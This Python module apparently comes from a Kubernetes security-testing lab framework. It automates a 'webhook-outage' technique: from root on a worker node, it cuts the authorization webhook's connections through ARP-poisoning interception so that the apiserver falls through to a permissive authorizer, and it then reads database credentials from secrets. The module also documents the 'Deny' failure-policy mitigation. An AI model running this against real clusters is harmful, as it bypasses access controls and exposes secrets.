"""Cut the apiserver off from the webhook that would deny a request.

A webhook authorizer can deny what an authorizer after it would allow: RBAC and ABAC cannot take
rights away, so this is where exceptions are made. What happens without an answer, the failure
policy says. With "NoOpinion", which the old flags always mean, the apiserver asks the next
authorizer, and the exception is gone. The attacker needs root on a worker, where they poison ARP
caches and end the webhook's connections, and the token of a person to whom the webhook denies
something. TLS does not stop it: a broken channel is what the attacker wants. The failure policy
"Deny" does. It denies the person everything as long as the webhook does not answer, so a narrow
condition for asking the webhook keeps other callers out of it. It helps only on a channel that
verifies the webhook: a false one can answer that it has no opinion.
"""

from __future__ import annotations

import secrets
from collections.abc import Sequence
from typing import TYPE_CHECKING

from labkit.cluster import Environment
from labkit.errors import ProbeError, ProbeTimeout
from labkit.model import Foothold, Model, read_model
from labkit.model.decision import ALLOWED, Action, authorizers, decide
from labkit.techniques._lib.api.access import CHANNEL as APISERVER
from labkit.techniques._lib.api.access import api_url, apiserver_of
from labkit.techniques._lib.api.webhooks import (
    CHANNEL,
    CONTRACTOR,
    PATIENCE,
    contractor,
    token_of,
)
from labkit.techniques._lib.machines.reach import Answer, legitimate, request
from labkit.techniques._lib.machines.waiting import wait_for
from labkit.techniques._lib.stores.secret import true_secret
from labkit.techniques._lib.technique import (
    ROOT_ON_WORKER,
    SECRETS,
    Prediction,
    SentRequest,
    Technique,
    holds,
)
from labkit.techniques._lib.verdict import Setting, Verdict
from labkit.techniques._lib.wire import interception
from labkit.techniques._lib.wire.capture import LEAVES
from labkit.techniques._lib.wire.interception import InterceptionTarget

if TYPE_CHECKING:
    from labkit.lab import Lab

__all__ = ["TECHNIQUE"]

SECRET = ("shop", "db-credentials", "password")
LIST = Action("list", "secrets", namespace=SECRET[0])
DENIED = "HTTP 403"
#: An authorizer that denies because of an error ends the request with 500, and not with 403, as
#: plain text (apiserver/pkg/endpoints/filters/authorization.go, responsewriters/errors.go).
FAILED, FILTER = "HTTP 500", b"Internal Server Error: "
#: What the apiserver says of a token about which it gets no answer.
FORGOTTEN = "HTTP 401"


def predict(model: Model, foothold: Foothold) -> Prediction:
    """Predict what the apiserver decides if no webhook answers."""
    env = model.environment
    apiserver, caller = apiserver_of(env), contractor(env)
    webhooks = [it for it in authorizers(env, apiserver) if it.webhook]
    if not webhooks:
        return Prediction(False, (f"no webhook denies anything: {apiserver.source}",))
    if caller is None:
        doubt = "a service outside the cluster decides to whom it denies what"
        return Prediction(None, (f"{doubt}: {webhooks[0].source}",))
    return holds(decide(env, apiserver, caller, LIST, unanswered=True).claim, ALLOWED)


def requests(model: Model, foothold: Foothold) -> Sequence[SentRequest]:
    """Return the request that the webhook would deny."""
    caller = contractor(model.environment)
    return [] if caller is None else [SentRequest(caller, LIST)]


def execute(lab: Lab, foothold: Foothold) -> Verdict:
    """End the webhook's connections without an answer, and ask for secrets.

    Raises
    ------
    ProbeTimeout
        The apiserver did not call the webhook.
    ProbeError
        The answer shows neither a success nor a refusal.
    """
    token = token_of(lab, CONTRACTOR)
    found = read_model(lab.environment).open_channels(CHANNEL)
    wanted = true_secret(lab, *SECRET)
    control = _webhook_denies(lab, foothold, token)
    answers: list[Answer] = []
    target = InterceptionTarget(
        about=CHANNEL,
        call=lambda lab: answers.append(_secrets(lab, foothold, token)),
        wanted="AccessReview",
        read="",
        positive_control=lambda lab: control,
        answer=b"",
        relays=False,
    )
    seen, _ = interception.intercept_calls(lab, foothold, found, target)
    if not seen:
        raise ProbeTimeout(f"{TECHNIQUE.name}: {found[0].client} did not call")
    cut = f"{found[0].client} got no answer of the webhook"
    got = next((it for it in answers if not it.refusal), None)
    if got is not None:
        if not wanted.found_in(got.body):
            raise ProbeError(f"{TECHNIQUE.name}: an answer without {wanted}")
        evidence = (f"before: {control}", cut, wanted.proof)
        reason = f"HTTP {got.status}: the next authorizer allows it"
        return Verdict(TECHNIQUE.name, lab.mode, foothold, True, reason, evidence)
    refusals = {it.refusal for it in answers}
    if FORGOTTEN in refusals:
        raise ProbeError(f"{TECHNIQUE.name}: the apiserver no longer knew the token")
    if refusals != {FAILED} or not all(it.body.startswith(FILTER) for it in answers):
        raise ProbeError(f"{TECHNIQUE.name}: {', '.join(sorted(refusals))} is no known refusal")
    reason = f"{FAILED}: no authorizer after the webhook is asked"
    return Verdict(TECHNIQUE.name, lab.mode, foothold, False, reason, (cut,), control)


def _secrets(lab: Lab, foothold: Foothold, token: str) -> Answer:
    """Ask for secrets, each time with another selector: the apiserver remembers what was denied."""
    path = f"/api/v1/namespaces/{SECRET[0]}/secrets?labelSelector=labkit!={secrets.token_hex(8)}"
    return request(lab, api_url(lab, path), foothold=foothold, token=token)


def _webhook_denies(lab: Lab, foothold: Foothold, token: str) -> str:
    """Show that the webhook denies the request while it answers.

    From then on the apiserver remembers for two minutes whose the token is: it is not asked of the
    webhook again, while that does not answer.

    Raises
    ------
    ProbeError
        It does not deny it.
    ProbeTimeout
        The apiserver does not know the token.
    """

    def asked() -> Answer | None:
        answer = _secrets(lab, foothold, token)
        return None if answer.refusal == FORGOTTEN else answer

    with legitimate():
        answer = wait_for(lab, asked, PATIENCE, f"the apiserver does not know {CONTRACTOR}'s token")
    if answer.refusal != DENIED:
        said = answer.refusal or f"HTTP {answer.status}"
        raise ProbeError(
            f"{TECHNIQUE.name}: no webhook denies {CONTRACTOR} secrets before another authorizer "
            f"allows them: {said}"
        )
    return f"the webhook that answers denies {CONTRACTOR} the secrets of {SECRET[0]}: {DENIED}"


def _settings(env: Environment) -> list[Setting]:
    found: list[Setting] = []
    for it in authorizers(env, apiserver_of(env)):
        policy = it.webhook.failure_policy if it.webhook else None
        what = f"{it.kind}: {policy.value}" if policy else it.kind
        found.append(("authorizer", what, str(policy.source if policy else it.source)))
    return found


TECHNIQUE = Technique(
    name="webhook-outage",
    title="Cut off the webhook that denies a request",
    footholds=(ROOT_ON_WORKER,),
    grants=(SECRETS,),
    about=APISERVER,
    properties=("authorization",),
    attack=("T1685", "T1557.002"),
    stride=("denial of service", "elevation of privilege"),
    cwe=("CWE-636", "CWE-755"),
    sources=(
        "https://kubernetes.io/docs/reference/access-authn-authz/authorization/"
        "#using-configuration-file-for-authorization",
        "https://kubernetes.io/docs/reference/access-authn-authz/webhook/",
    ),
    predict=predict,
    execute=execute,
    requests=requests,
    settings=_settings,
    cost=3.0,
    leaves=(*LEAVES, "rules"),
    machines=("review",),
    modes=("hook-insecure", "hook-hardened"),
)
